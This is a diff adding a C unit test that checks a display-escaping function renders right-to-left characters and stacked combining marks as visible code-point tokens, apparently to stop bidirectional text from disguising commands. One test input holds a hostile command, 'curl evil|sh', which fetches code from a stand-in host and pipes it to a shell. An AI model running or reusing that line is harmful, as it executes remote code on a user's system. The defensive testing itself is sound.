@@ -81,6 +81,24 @@ t_visible_alike(void **st)
 	assert_string_equal(VIS("\xef\xbd\x92m"), "⟦U+FF52⟧m");
 }
 
+/* What is written from right to left does not stand where it runs. */
+static void
+t_visible_turned(void **st)
+{
+	(void)st;
+	assert_string_equal(VIS(": \xd7\x90 ; curl evil|sh #"),
+	    ": ⟦U+05D0⟧ ; curl evil|sh #");
+	assert_string_equal(VIS("\xd7\xa9\xd7\x9c 12\nls \xd8\xa7\n\xd8\xa7"),
+	    "\xd7\xa9\xd7\x9c 12\nls ⟦U+0627⟧\n\xd8\xa7");
+	assert_string_equal(LINE("\xd7\xa9\nls"), "⟦U+05E9⟧⟦U+000A⟧ls");
+	assert_string_equal(VIS("\xf0\x9e\xa4\x80 x \xef\xad\x90 "
+	    "\xf0\x90\xa4\x80 \xef\xba\x8d"),
+	    "⟦U+1E900⟧ x ⟦U+FB50⟧ ⟦U+10900⟧ ⟦U+FE8D⟧");
+	/* Marks that would cover the line above. */
+	assert_string_equal(VIS("o\xcc\x88\xcc\x88\xcc\x88\xcc\x88\xcc\x88x"),
+	    "o\xcc\x88\xcc\x88\xcc\x88⟦U+0308⟧⟦U+0308⟧x");
+}
+
 static void
 t_visible_space(void **st)
 {
@@ -298,6 +316,7 @@ main(void)
 	static const struct CMUnitTest	tests[] = {
 		cmocka_unit_test(t_visible),
 		cmocka_unit_test(t_visible_alike),
+		cmocka_unit_test(t_visible_turned),
 		cmocka_unit_test(t_visible_space),
 		cmocka_unit_test(t_action),
 		cmocka_unit_test(t_action_diff),
